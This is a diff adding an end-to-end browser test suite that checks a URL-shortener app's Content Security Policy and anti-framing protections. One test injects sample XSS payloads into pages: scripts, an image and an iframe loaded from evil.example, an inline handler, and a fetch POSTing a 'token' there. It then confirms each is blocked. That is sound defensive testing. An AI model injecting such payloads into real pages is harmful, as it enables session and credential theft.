@@ -1,0 +1,132 @@
+import type { Browser, BrowserContext, Page } from "playwright-core";
+import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
+import { openAccount, signedInScript, type Account } from "../browser/account.ts";
+import { launchChromium } from "../browser/chromium.ts";
+import { openDestination } from "../browser/destination.ts";
+import { visitors } from "../browser/visitors.ts";
+import { stackPlace, type StackPlace } from "../running/runningStack.ts";
+import { send } from "./send.ts";
+
+let place: StackPlace;
+let browser: Browser;
+let ada: Account;
+let linkId: string;
+let goneCode: string;
+beforeAll(async () => {
+  browser = await launchChromium();
+  place = await stackPlace();
+  await place.start({ env: { RATE_LIMITS: "off" } }).ready();
+  ada = await openAccount(place.appUrl, "ada@example.com");
+  const link = await ada.createLink({ name: "Landing page", originalUrl: "https://example.com/" });
+  const gone = await ada.createLink({ name: "Switched off", originalUrl: "https://example.com/" });
+  [linkId, goneCode] = [link.id, gone.code];
+  const headers = { authorization: `Bearer ${ada.tokens.accessToken}` };
+  await send(place.appUrl, `/api/urls/${gone.id}/toggle-status`, { method: "PATCH", headers });
+  await send(place.appUrl, "/api/auth/forgot-password", { method: "POST", body: { email: ada.email } });
+  await send(place.shortUrl, `/${link.code}`, { headers: { "user-agent": visitors.firefoxOnLinux } });
+});
+afterAll(async () => {
+  await browser.close();
+  await place.clear();
+});
+
+/** A browser whose pages tell what their policy kept them from. */
+async function openWatched(): Promise<{ context: BrowserContext; page: Page; violations: string[] }> {
+  const context = await browser.newContext();
+  onTestFinished(() => context.close());
+  const violations: string[] = [];
+  await context.exposeFunction("tellViolation", (what: string) => violations.push(what));
+  await context.addInitScript(`document.addEventListener("securitypolicyviolation", (event) =>
+    tellViolation(location.pathname + ": " + event.effectiveDirective + " " + event.blockedURI));`);
+  const page = await context.newPage();
+  // Workers and what the page itself can't see say so on the console.
+  page.on("console", (message) => {
+    if (/content security policy/i.test(message.text())) violations.push(message.text());
+  });
+  return { context, page, violations };
+}
+
+async function visit(page: Page, url: string): Promise<void> {
+  await page.goto(url);
+  await page.locator("h1").first().waitFor();
+}
+
+test("no page of a guest, nor one of ours beside the app, wants what its policy forbids", async () => {
+  const { page, violations } = await openWatched();
+  const guests = ["/", "/privacy", "/terms", "/login?error=oauth_failed", "/register", "/forgot-password"];
+  for (const path of [
+    ...guests,
+    "/reset-password?token=some",
+    "/google-oauth-complete?action=signup&email=a%40b.example",
+  ])
+    await visit(page, place.appUrl + path);
+  await visit(page, `${place.appUrl}/dev/mailbox`);
+  await page.getByRole("heading", { name: "Reset your hoplog password" }).waitFor();
+  for (const code of ["none-such", goneCode]) await visit(page, `${place.shortUrl}/${code}`);
+  await page.goto(`${place.appUrl}/api/docs`);
+  await page.getByText("/api/auth/login").click();
+  await page.getByRole("button", { name: "Try it out" }).click();
+  await page.getByRole("button", { name: "Execute" }).click();
+  await page.getByText("Server response").waitFor();
+  expect(violations).toEqual([]);
+});
+
+test("no page of somebody signed in does, nor charts, maps, pictures or files that are made in it", async () => {
+  const { context, page, violations } = await openWatched();
+  await context.addInitScript(signedInScript(ada));
+  const live = page.waitForEvent("websocket");
+  for (const path of ["/dashboard", "/groups", "/profile"]) await visit(page, place.appUrl + path);
+  expect(new URL((await live).url()).host).toBe(new URL(place.appUrl).host);
+  await page.goto(`${place.appUrl}/urls?analytics=${linkId}`);
+  await page.getByText("Showing 1-1 of 1 clicks").waitFor();
+  await page.locator(".js-plotly-plot .bars").first().waitFor();
+  await page.goto(`${place.appUrl}/urls`);
+  await page.getByRole("button", { name: "QR code Landing page" }).click();
+  await page.getByRole("img", { name: /QR code of/ }).waitFor();
+  expect(violations).toEqual([]);
+});
+
+test("what a thief would bring into a page does not run, loads nothing and sends nothing, and is seen by this test", async () => {
+  const { page, violations } = await openWatched();
+  for (const [url, directives] of [
+    [`${place.appUrl}/login`, ["script-src-elem", "script-src-attr", "img-src", "connect-src", "frame-src"]],
+    [`${place.appUrl}/dev/mailbox`, ["script-src-elem", "script-src-attr", "img-src", "connect-src", "frame-src"]],
+    [`${place.shortUrl}/none-such`, ["script-src-elem", "script-src-attr", "img-src", "connect-src", "frame-src"]],
+  ] as const) {
+    await visit(page, url);
+    violations.length = 0;
+    await page.evaluate(`(() => {
+      const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
+      add("script", { textContent: "window.stolen = true" });
+      add("script", { src: "https://evil.example/x.js" });
+      add("img", { src: "https://evil.example/x.png" });
+      add("iframe", { src: "https://evil.example/" });
+      document.body.insertAdjacentHTML("beforeend", '<p onclick="window.stolen = true">x</p>');
+      document.body.lastElementChild.click();
+      fetch("https://evil.example/", { method: "POST", body: "token" }).catch(() => {});
+    })()`);
+    for (const directive of directives)
+      await expect.poll(() => violations.join("\n"), { message: `${url} ${directive}` }).toContain(`: ${directive} `);
+    expect(await page.evaluate("window.stolen")).toBeUndefined();
+  }
+});
+
+test("no page of ours shows inside another site's", async () => {
+  const { page } = await openWatched();
+  const other = await openDestination();
+  onTestFinished(() => other.close());
+  await page.goto(other.url);
+  const ours = [`${place.appUrl}/login`, `${place.appUrl}/dev/mailbox`, `${place.shortUrl}/none-such`];
+  const refused: string[] = [];
+  page.on("requestfailed", (request) => refused.push(request.url()));
+  for (const url of [...ours, other.url]) {
+    const frame = `Object.assign(document.createElement("iframe"), { src: ${JSON.stringify(url)} })`;
+    await page.evaluate(`document.body.append(${frame})`);
+  }
+  await expect.poll(() => refused.toSorted()).toEqual(ours.toSorted());
+  const [, ...frames] = page.frames();
+  // The last one, which nothing forbids, shows that frames do show.
+  await frames.at(-1)?.getByText("You have arrived").waitFor();
+  const browsersOwn = "chrome-error://chromewebdata/";
+  await expect.poll(() => frames.map((frame) => frame.url())).toEqual([...ours.map(() => browsersOwn), other.url]);
+});
